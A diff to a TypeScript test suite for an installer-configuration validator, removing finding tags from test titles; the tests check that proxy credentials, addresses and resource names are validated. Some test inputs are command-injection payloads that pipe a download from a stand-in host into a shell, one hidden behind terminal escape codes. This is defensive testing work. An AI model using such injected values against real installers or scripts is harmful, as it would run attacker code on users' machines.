@@ -25,7 +25,7 @@ function refused(raw: Record<string, unknown>): string[] {
   return result.success ? [] : result.error.issues.map((i) => `${i.path.join('.')}: ${i.message}`);
 }
 
-describe('proxy credentials are secrets: install-config.yaml only (F4)', () => {
+describe('proxy credentials are secrets: install-config.yaml only', () => {
   it('refuses user:password@ in the proxy URLs, naming the credentials file instead', () => {
     const problems = refused({
       ...base,
@@ -61,7 +61,7 @@ describe('proxy credentials are secrets: install-config.yaml only (F4)', () => {
   });
 });
 
-describe('values that reach config files are validated for their type (F8, F17, F20)', () => {
+describe('values that reach config files are validated for their type', () => {
   it('refuses a bootstrapExternalStaticIP that is not an address (the HAProxy injection)', () => {
     expect(
       refused({
@@ -143,7 +143,7 @@ describe('values that reach config files are validated for their type (F8, F17, 
   });
 });
 
-describe('names that reach copy-paste commands follow the provider’s syntax (F10)', () => {
+describe('names that reach copy-paste commands follow the provider’s syntax', () => {
   it('refuses a resource group, region, project or OpenStack name carrying shell or Markdown', () => {
     const payload = 'dns-rg;curl https://evil.example/x|sh';
     expect(
@@ -165,7 +165,7 @@ describe('names that reach copy-paste commands follow the provider’s syntax (F
   });
 });
 
-describe('terminal escapes written as YAML escapes are refused after parsing (F11)', () => {
+describe('terminal escapes written as YAML escapes are refused after parsing', () => {
   it.each([
     ['"dns-rg\\e[8m;curl -s evil.example|sh\\e[0m"', '\\x1b'],
     ['"vc\\u001b]0;TITLE\\u0007"', '\\x1b'],
@@ -184,7 +184,7 @@ describe('terminal escapes written as YAML escapes are refused after parsing (F1
   });
 });
 
-describe('answers.yaml reproduces the answers exactly (F19)', () => {
+describe('answers.yaml reproduces the answers exactly', () => {
   const ambiguous = [
     '0o17',
     '0x1F',
@@ -239,7 +239,7 @@ describe('answers.yaml reproduces the answers exactly (F19)', () => {
   });
 });
 
-describe('parser messages in plain words (F23)', () => {
+describe('parser messages in plain words', () => {
   it('explains several documents, complex keys and lone CR line ends', () => {
     expect(() => parseAnswersText('clusterName: a\n---\nclusterName: b\n', 'a.yaml')).toThrow(
       'a.yaml holds several YAML documents (separated by ---); an answers file is one document.',
